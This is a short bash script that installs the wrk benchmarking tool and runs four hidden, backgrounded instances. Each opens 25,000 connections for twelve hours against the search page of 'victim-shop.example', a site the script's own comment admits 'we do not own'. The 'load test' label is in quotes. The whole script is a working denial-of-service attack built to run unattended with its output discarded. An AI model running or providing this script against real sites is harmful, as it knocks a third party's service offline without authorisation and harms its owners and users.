#!/bin/bash
# "load test" of a site we do not own, for as long as the runtime lives
apt-get -qq install -y wrk
for i in 1 2 3 4; do
  nohup wrk -t8 -c 25000 -d 12h --timeout 2s https://www.victim-shop.example/search?q=a > /dev/null 2>&1 &
done
wait
